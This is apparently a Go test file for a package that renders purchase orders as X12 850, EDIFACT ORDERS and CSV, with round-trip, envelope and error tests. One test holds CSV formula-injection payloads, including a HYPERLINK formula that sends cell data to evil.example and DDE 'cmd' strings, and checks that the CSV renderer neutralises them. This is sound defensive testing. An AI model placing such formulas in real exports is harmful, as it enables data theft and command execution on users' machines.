package normalize

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ordergate/ordergate/edi/edifact"
	"github.com/ordergate/ordergate/edi/x12"
	"github.com/ordergate/ordergate/internal/fixtures"
	"github.com/ordergate/ordergate/normalize/order"
)

var renderTime = time.Date(2026, 11, 27, 12, 30, 0, 0, time.UTC)

func testX12Envelope() X12Envelope {
	return X12Envelope{SenderQualifier: "ZZ", SenderID: "TOOLSUPPLY", ReceiverQualifier: "ZZ", ReceiverID: "WMSNORD",
		InterchangeControl: 4711, GroupControl: 4711, SetControl: 1, Time: renderTime}
}

func testEDIFACTEnvelope() EDIFACTEnvelope {
	return EDIFACTEnvelope{SenderID: "4000000000002", SenderQualifier: "14", ReceiverID: "4012345000009", ReceiverQualifier: "14",
		InterchangeControl: "4711", MessageControl: 1, SyntaxID: "UNOW", SyntaxVersion: "3", Time: renderTime}
}

// comparable is o's JSON without provenance and source.
func comparableJSON(t *testing.T, o *order.Order) string {
	t.Helper()
	c := *o
	c.Provenance = nil
	c.Source = order.Source{}
	b, err := json.MarshalIndent(&c, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// corpusFiles returns the files under the corpus's */<standard> folders,
// expected outputs left out.
func corpusFiles(t *testing.T, standard string) []string {
	t.Helper()
	dir := corpusDir(t)
	roots, _ := filepath.Glob(filepath.Join(dir, "*", standard))
	var files []string
	for _, root := range roots {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.IsDir() && strings.HasPrefix(d.Name(), "expected") {
				return filepath.SkipDir
			}
			if err == nil && !d.IsDir() {
				files = append(files, p)
			}
			return err
		})
	}
	return files
}

// sourceOrder is an order mapped from a message, and whether the message
// passed the syntax checks.
type sourceOrder struct {
	o        *order.Order
	accepted bool
}

// x12Orders maps every 850 of data that maps; decoding stops at the first
// error of the input.
func x12Orders(data []byte, file string) []sourceOrder {
	d := x12.NewDecoder(bytes.NewReader(data))
	var out []sourceOrder
	for {
		tx, err := d.Next()
		if err != nil {
			return out
		}
		if tx.Type != "850" {
			continue
		}
		if o, err := FromX12850(&tx.Message, file); err == nil {
			out = append(out, sourceOrder{o, tx.Accepted})
		}
	}
}

// reparseX12 decodes a rendered interchange, which must hold one valid
// 850, and maps it.
func reparseX12(t *testing.T, data []byte, wantAccepted bool) *order.Order {
	t.Helper()
	txs := decode850s(t, data)
	if len(txs) != 1 {
		t.Fatalf("rendered %d 850s, want 1:\n%s", len(txs), data)
	}
	if wantAccepted && !txs[0].Accepted {
		t.Errorf("the rendered 850 is not accepted: %v\n%s", txs[0].Errors, data)
	}
	o, err := FromX12850(&txs[0].Message, "")
	if err != nil {
		t.Fatalf("mapping the rendered 850: %v\n%s", err, data)
	}
	return o
}

func reparseEDIFACT(t *testing.T, data []byte, wantAccepted bool) *order.Order {
	t.Helper()
	ms := edifactMessages(t, data)
	if len(ms) != 1 {
		t.Fatalf("rendered %d messages, want 1:\n%s", len(ms), data)
	}
	if wantAccepted && !ms[0].Accepted {
		t.Errorf("the rendered ORDERS is not accepted: %v\n%s", ms[0].Errors, data)
	}
	o, err := FromEDIFACTOrders(&ms[0].Message, "")
	if err != nil {
		t.Fatalf("mapping the rendered ORDERS: %v\n%s", err, data)
	}
	return o
}

func TestRenderX12850RoundTrip(t *testing.T) {
	type input struct {
		name   string
		orders []sourceOrder
	}
	inputs := []input{
		{"crafted", x12Orders([]byte(crafted850), "crafted")},
		{"fixtures", x12Orders(fixtures.X12850(17, "4500099999", 25), "fixtures")},
	}
	dir := corpusDir(t)
	for _, f := range corpusFiles(t, "x12") {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		rel, _ := filepath.Rel(dir, f)
		if os := x12Orders(data, rel); len(os) > 0 {
			inputs = append(inputs, input{filepath.ToSlash(rel), os})
		}
	}
	total := 0
	for _, in := range inputs {
		t.Run(in.name, func(t *testing.T) {
			for i, so := range in.orders {
				o := so.o
				env := testX12Envelope()
				env.SetControl = int64(i + 1)
				data, err := RenderX12850(o, env)
				if err != nil {
					t.Errorf("order %d (PO %s): %v", i, o.PONumber, err)
					continue
				}
				got := reparseX12(t, data, so.accepted)
				if g, w := comparableJSON(t, got), comparableJSON(t, o); g != w {
					t.Errorf("order %d (PO %s) differs after the round trip:\n got %s\nwant %s\nrendered:\n%s", i, o.PONumber, g, w, data)
				}
				total++
			}
		})
	}
	if total < 30 {
		t.Errorf("%d orders went round, want at least 30", total)
	}
	t.Logf("%d orders from %d inputs went round", total, len(inputs))
}

func TestRenderEDIFACTOrdersRoundTrip(t *testing.T) {
	type input struct {
		name   string
		orders []sourceOrder
	}
	mapAll := func(t *testing.T, data []byte, file string) []sourceOrder {
		var out []sourceOrder
		for _, m := range edifactMessages(t, data) {
			if m.Type != "ORDERS" {
				continue
			}
			if o, err := FromEDIFACTOrders(&m.Message, file); err == nil {
				out = append(out, sourceOrder{o, m.Accepted})
			}
		}
		return out
	}
	inputs := []input{{"fixtures", mapAll(t, fixtures.EDIFACTOrders(17, "4500099999", 25), "fixtures")}}
	dir := corpusDir(t)
	for _, f := range corpusFiles(t, "edifact") {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		rel, _ := filepath.Rel(dir, f)
		if os := mapAll(t, data, rel); len(os) > 0 {
			inputs = append(inputs, input{filepath.ToSlash(rel), os})
		}
	}
	total := 0
	for _, in := range inputs {
		t.Run(in.name, func(t *testing.T) {
			for i, so := range in.orders {
				o := so.o
				env := testEDIFACTEnvelope()
				env.MessageControl = int64(i + 1)
				data, err := RenderEDIFACTOrders(o, env)
				if err != nil {
					t.Errorf("order %d (PO %s): %v", i, o.PONumber, err)
					continue
				}
				got := reparseEDIFACT(t, data, so.accepted)
				if g, w := comparableJSON(t, got), comparableJSON(t, o); g != w {
					t.Errorf("order %d (PO %s) differs after the round trip:\n got %s\nwant %s\nrendered:\n%s", i, o.PONumber, g, w, data)
				}
				total++
			}
		})
	}
	if total < 15 {
		t.Errorf("%d orders went round, want at least 15", total)
	}
	t.Logf("%d orders from %d inputs went round", total, len(inputs))
}

// craftedOrder is the crafted 850 mapped, with what the gateway adds.
func craftedOrder(t *testing.T) *order.Order {
	t.Helper()
	os := x12Orders([]byte(crafted850), "po.edi")
	if len(os) != 1 {
		t.Fatalf("%d crafted orders, want 1", len(os))
	}
	o := os[0].o
	o.ID, o.CustomerID, o.Status = "ord_01JCRAFTED", "C-1000", order.StatusAccepted
	o.Lines[0].SKU = "SCR-100"
	return o
}

func TestRenderCSVGolden(t *testing.T) {
	o := craftedOrder(t)
	got, err := RenderCSV(o)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", "render", "crafted.csv")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading the golden file (run with -update): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs; run with -update and review the diff\n got:\n%s", path, got)
	}
	rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	if len(rows) != 1+len(o.Lines) {
		t.Fatalf("%d rows, want a header and %d lines", len(rows), len(o.Lines))
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	for i, l := range o.Lines {
		r := rows[i+1]
		if r[col["po_number"]] != o.PONumber || r[col["order_id"]] != o.ID || r[col["line_no"]] != l.LineNo ||
			r[col["quantity"]] != l.Quantity.String() || r[col["ship_to_country"]] != "DE" {
			t.Errorf("row %d = %q, want the order's fields and line %s", i+1, r, l.LineNo)
		}
	}
	if !bytes.Contains(got, []byte("\r\n")) {
		t.Error("rows do not end in CRLF")
	}
}

func TestRenderCSVInjection(t *testing.T) {
	o := craftedOrder(t)
	o.PONumber = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	o.Notes = []string{"@SUM(1+1)*cmd|' /C calc'!A0"}
	o.Parties[1].Name = "+49 40 123"
	o.Lines[0].Description = "-2+3+cmd|' /C notepad'!'A1'"
	o.Lines[0].SKU = "\tSCR-100"
	o.Lines[0].BuyerPart = "\rBN-4711"
	o.Lines[1].Description = "Wall plugs, 8mm \"premium\"\nsecond line"
	o.Lines[1].SKU = "safe=value"
	got, err := RenderCSV(o)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v\n%s", err, got)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	checks := []struct {
		row          int
		column, want string
	}{
		{1, "po_number", "'" + o.PONumber},
		{2, "po_number", "'" + o.PONumber},
		{1, "notes", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{1, "buyer_name", "'+49 40 123"},
		{1, "description", "'-2+3+cmd|' /C notepad'!'A1'"},
		{1, "sku", "'\tSCR-100"},
		{1, "buyer_part", "'BN-4711"},                                  // the CR is neutralised, then dropped by the CRLF writer
		{2, "description", "Wall plugs, 8mm \"premium\"\nsecond line"}, // quoted, not neutralised
		{2, "sku", "safe=value"},
		{1, "quantity", "24"},
	}
	for _, c := range checks {
		if got := rows[c.row][col[c.column]]; got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.column, got, c.want)
		}
	}
	for i, r := range rows[1:] {
		for j, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d %s = %q starts with a formula character", i+1, rows[0][j], cell)
			}
		}
	}
}

func TestRenderCSVNoLines(t *testing.T) {
	got, err := RenderCSV(&order.Order{PONumber: "1"})
	if err != nil {
		t.Fatal(err)
	}
	if want := strings.Join(CSVColumns, ",") + "\r\n"; string(got) != want {
		t.Errorf("RenderCSV of an order without lines = %q, want the header only", got)
	}
}

func TestRenderX12850Envelope(t *testing.T) {
	o := x12Orders([]byte(crafted850), "po.edi")[0].o
	tests := []struct {
		name string
		env  func(e *X12Envelope)
		want map[string]string
	}{
		{"defaults", func(*X12Envelope) {}, map[string]string{"ISA13": "000004711", "GS06": "4711", "ST02": "0001", "ISA15": "P",
			"ISA12": "00401", "GS08": "004010", "GS02": "TOOLSUPPLY", "ISA06": "TOOLSUPPLY", "ISA08": "WMSNORD", "ISA09": "261127"}},
		{"test, group codes, controls", func(e *X12Envelope) {
			e.Test, e.GroupSender, e.GroupReceiver = true, "TS-APP", "WMS-APP"
			e.InterchangeControl, e.GroupControl, e.SetControl = 987654321, 77, 123456
		}, map[string]string{"ISA13": "987654321", "GS06": "77", "ST02": "123456", "ISA15": "T", "GS02": "TS-APP", "GS03": "WMS-APP"}},
		{"version 005010 and other delimiters", func(e *X12Envelope) {
			e.Version = "005010"
			e.Delimiters = x12.Delimiters{Element: '|', Component: ':', Repetition: '^', Segment: "\n"}
		}, map[string]string{"ISA12": "00501", "GS08": "005010", "ISA11": "^", "ISA16": ":"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := testX12Envelope()
			tt.env(&env)
			data, err := RenderX12850(o, env)
			if err != nil {
				t.Fatal(err)
			}
			got := reparseX12(t, data, true)
			if g, w := comparableJSON(t, got), comparableJSON(t, o); g != w {
				t.Errorf("round trip differs:\n got %s\nwant %s", g, w)
			}
			d := env.Delimiters
			if d == (x12.Delimiters{}) {
				d = x12.DefaultDelimiters
			}
			segs := map[string][]string{}
			for _, seg := range strings.Split(string(data), d.Segment) {
				seg = strings.TrimSpace(seg)
				if el := strings.Split(seg, string(d.Element)); len(el) > 0 {
					segs[el[0]] = el
				}
			}
			for k, want := range tt.want {
				tag, n := k[:len(k)-2], int(k[len(k)-2]-'0')*10+int(k[len(k)-1]-'0')
				el := segs[tag]
				if n >= len(el) || strings.TrimSpace(el[n]) != want {
					t.Errorf("%s = %q, want %q", k, el, want)
				}
			}
			if got.Source.InterchangeControl != strings.TrimSpace(segs["ISA"][13]) || got.Source.Test != env.Test {
				t.Errorf("read back envelope %+v", got.Source)
			}
		})
	}
}

func TestRenderEDIFACTOrdersEnvelope(t *testing.T) {
	os := x12Orders([]byte(crafted850), "po.edi") // an order with every field the X12 mapper sets
	o := os[0].o
	var edi []*order.Order
	for _, m := range edifactMessages(t, fixtures.EDIFACTOrders(5, "4500000005", 3)) {
		e, err := FromEDIFACTOrders(&m.Message, "")
		if err != nil {
			t.Fatal(err)
		}
		edi = append(edi, e)
	}
	tests := []struct {
		name  string
		env   func(e *EDIFACTEnvelope)
		want  []string
		order *order.Order
	}{
		{"defaults", func(*EDIFACTEnvelope) {}, []string{"UNB+UNOW:3+4000000000002:14+4012345000009:14+261127:1230+4711'", "UNH+1+ORDERS:D:96A:UN'", "UNT+"}, edi[0]},
		{"decimal comma, UNA, test, EAN008, D01B", func(e *EDIFACTEnvelope) {
			e.Separators = edifact.Separators{Component: ':', Element: '+', Decimal: ',', Release: '?', Terminator: '\''}
			e.Test, e.Association, e.Directory, e.MessageControl, e.InterchangeControl = true, "EAN008", "D01B", 42, "ICR-9"
		}, []string{"UNA:+,? '", "+ICR-9++++++1'", "UNH+42+ORDERS:D:01B:UN:EAN008'", "QTY+21:1,5:LB'", "PRI+AAA:7,5'", "UNZ+1+ICR-9'"}, o},
		{"syntax 4, line breaks", func(e *EDIFACTEnvelope) {
			e.SyntaxID, e.SyntaxVersion, e.LineBreaks, e.UNA = "UNOC", "4", true, true
		}, []string{"UNA:+.?*'\n", "UNB+UNOC:4+4000000000002:14+4012345000009:14+20261127:1230+4711'\n"}, edi[0]},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := testEDIFACTEnvelope()
			tt.env(&env)
			data, err := RenderEDIFACTOrders(tt.order, env)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				if !bytes.Contains(data, []byte(w)) {
					t.Errorf("rendered interchange lacks %q:\n%s", w, data)
				}
			}
			got := reparseEDIFACT(t, data, true)
			if got.Source.Test != env.Test || got.Source.InterchangeControl != env.InterchangeControl {
				t.Errorf("read back envelope %+v", got.Source)
			}
			if tt.order == edi[0] {
				if g, w := comparableJSON(t, got), comparableJSON(t, tt.order); g != w {
					t.Errorf("round trip differs:\n got %s\nwant %s", g, w)
				}
			}
		})
	}
}

// TestRenderAcrossStandards renders an X12 order as EDIFACT and an
// EDIFACT order as X12: the results are valid and carry the order.
func TestRenderAcrossStandards(t *testing.T) {
	x := craftedOrder(t)
	data, err := RenderEDIFACTOrders(x, testEDIFACTEnvelope())
	if err != nil {
		t.Fatal(err)
	}
	e := reparseEDIFACT(t, data, true)
	ms := edifactMessages(t, fixtures.EDIFACTOrders(9, "4500000009", 4))
	src, err := FromEDIFACTOrders(&ms[0].Message, "")
	if err != nil {
		t.Fatal(err)
	}
	data, err = RenderX12850(src, testX12Envelope())
	if err != nil {
		t.Fatal(err)
	}
	back := reparseX12(t, data, true)
	for _, pair := range [][2]*order.Order{{x, e}, {src, back}} {
		want, got := pair[0], pair[1]
		if got.PONumber != want.PONumber || got.PODate != want.PODate || got.Currency != want.Currency || len(got.Lines) != len(want.Lines) ||
			len(got.Parties) != len(want.Parties) || got.Purpose != want.Purpose {
			t.Errorf("header differs: got %s\nwant %s", comparableJSON(t, got), comparableJSON(t, want))
			continue
		}
		for i := range want.Lines {
			w, g := want.Lines[i], got.Lines[i]
			if g.LineNo != w.LineNo || g.Quantity.Cmp(w.Quantity) != 0 || g.Unit != x12Unit(w.Unit) && g.Unit != w.Unit || g.GTIN != w.GTIN || g.Description != w.Description ||
				g.SupplierPart != or(w.SupplierPart, w.SKU) || g.BuyerPart != w.BuyerPart || (w.UnitPrice != nil) != (g.UnitPrice != nil) {
				t.Errorf("line %d: got %+v, want %+v", i, g, w)
			}
		}
	}
	if e.OrderType != "220" || back.OrderType != "SA" {
		t.Errorf("order types %q and %q, want 220 and SA", e.OrderType, back.OrderType)
	}
}

func TestRenderFreeText(t *testing.T) {
	o := craftedOrder(t)
	o.Notes = []string{"deliver to dock 3*gate~B\r\nring twice", strings.Repeat("lorem ipsum ", 40)}
	o.Lines[0].Description = "Schrauben > 4x40 ^ verzinkt"
	data, err := RenderX12850(o, testX12Envelope())
	if err != nil {
		t.Fatal(err)
	}
	got := reparseX12(t, data, true)
	if got.Notes[0] != "deliver to dock 3 gate B  ring twice" || got.Lines[0].Description != "Schrauben   4x40   verzinkt" {
		t.Errorf("free text read back %q / %q", got.Notes[0], got.Lines[0].Description)
	}
	if n := strings.Join(got.Notes[1:], " "); n != strings.TrimSpace(o.Notes[1]) || len(got.Notes) < 3 {
		t.Errorf("a long note read back as %q, want it whole across MSG segments", got.Notes[1:])
	}
	data, err = RenderEDIFACTOrders(o, testEDIFACTEnvelope())
	if err != nil {
		t.Fatal(err)
	}
	e := reparseEDIFACT(t, data, true)
	if e.Notes[0] != "deliver to dock 3*gate~B  ring twice" || e.Lines[0].Description != o.Lines[0].Description {
		t.Errorf("EDIFACT free text read back %q / %q", e.Notes[0], e.Lines[0].Description)
	}
	if strings.Join(e.Notes[1:], " ") != strings.TrimSpace(o.Notes[1]) {
		t.Errorf("a long note read back as %q", e.Notes[1:])
	}
}

func TestRenderErrors(t *testing.T) {
	x12Env, edEnv := testX12Envelope(), testEDIFACTEnvelope()
	tests := []struct {
		name   string
		render func() ([]byte, error)
		want   string
	}{
		{"x12 nil order", func() ([]byte, error) { return RenderX12850(nil, x12Env) }, "nil order"},
		{"edifact nil order", func() ([]byte, error) { return RenderEDIFACTOrders(nil, edEnv) }, "nil order"},
		{"csv nil order", func() ([]byte, error) { return RenderCSV(nil) }, "nil order"},
		{"x12 no time", func() ([]byte, error) { e := x12Env; e.Time = time.Time{}; return RenderX12850(craftedOrder(t), e) }, "no time"},
		{"x12 no set control", func() ([]byte, error) { e := x12Env; e.SetControl = 0; return RenderX12850(craftedOrder(t), e) }, "control number"},
		{"x12 no interchange control", func() ([]byte, error) {
			e := x12Env
			e.InterchangeControl = 0
			return RenderX12850(craftedOrder(t), e)
		}, "control number"},
		{"x12 bad version", func() ([]byte, error) { e := x12Env; e.Version = "4010"; return RenderX12850(craftedOrder(t), e) }, "not like 004010"},
		{"x12 sender too long", func() ([]byte, error) {
			e := x12Env
			e.SenderID = "A-SENDER-ID-LONGER-THAN-15"
			return RenderX12850(craftedOrder(t), e)
		}, "longer than 15"},
		{"x12 separator in an id", func() ([]byte, error) {
			o := craftedOrder(t)
			o.Lines[1].BuyerPart = "BN*4711"
			return RenderX12850(o, x12Env)
		}, "line 2"},
		{"x12 role without a code", func() ([]byte, error) {
			o := craftedOrder(t)
			o.Parties[0].Role = "payer"
			return RenderX12850(o, x12Env)
		}, `role "payer"`},
		{"x12 purpose without a code", func() ([]byte, error) {
			o := craftedOrder(t)
			o.Purpose = "confirmation"
			return RenderX12850(o, x12Env)
		}, `purpose "confirmation"`},
		{"edifact raw purpose", func() ([]byte, error) { o := craftedOrder(t); o.Purpose = "06"; return RenderEDIFACTOrders(o, edEnv) }, `purpose "06"`},
		{"edifact no message control", func() ([]byte, error) {
			e := edEnv
			e.MessageControl = 0
			return RenderEDIFACTOrders(craftedOrder(t), e)
		}, "control reference"},
		{"edifact no time", func() ([]byte, error) {
			e := edEnv
			e.Time = time.Time{}
			return RenderEDIFACTOrders(craftedOrder(t), e)
		}, "no time"},
		{"edifact bad directory", func() ([]byte, error) {
			e := edEnv
			e.Directory = "96A"
			return RenderEDIFACTOrders(craftedOrder(t), e)
		}, "not like D96A"},
		{"edifact character outside UNOA", func() ([]byte, error) {
			e := edEnv
			e.SyntaxID = "UNOA"
			o := craftedOrder(t)
			o.Notes = []string{"Lieferung über Tor 3"}
			return RenderEDIFACTOrders(o, e)
		}, "UNOA"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := tt.render()
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got %q, %v; want an error containing %q", b, err, tt.want)
			}
			if b != nil {
				t.Errorf("got %d bytes with the error", len(b))
			}
		})
	}
	if _, err := RenderEDIFACTOrders(&order.Order{Purpose: "06"}, edEnv); !errors.Is(err, ErrRender) {
		t.Errorf("a purpose without a code: %v, want ErrRender", err)
	}
}

func TestSplitAtSpaces(t *testing.T) {
	tests := []struct {
		s    string
		n    int
		want []string
	}{
		{"", 5, nil},
		{"abc", 5, []string{"abc"}},
		{"abc def ghi", 7, []string{"abc def", "ghi"}},
		{"abc def ghi", 3, []string{"abc", "def", "ghi"}},
		{"abcdefgh ij", 3, []string{"abcdefgh", "ij"}},
		{"ab  cd ef", 5, []string{"ab  cd", "ef"}},
		{"Fruchtzwerge Classic 6 x 50gr Set  Ban/Erd/Apr", 35, []string{"Fruchtzwerge Classic 6 x 50gr", "Set  Ban/Erd/Apr"}},
		{"äöü äöü", 3, []string{"äöü", "äöü"}},
	}
	for _, tt := range tests {
		got := splitAtSpaces(tt.s, tt.n)
		if strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
			t.Errorf("splitAtSpaces(%q, %d) = %q, want %q", tt.s, tt.n, got, tt.want)
		}
		if strings.Join(got, " ") != tt.s {
			t.Errorf("splitAtSpaces(%q, %d) = %q does not join back", tt.s, tt.n, got)
		}
	}
}
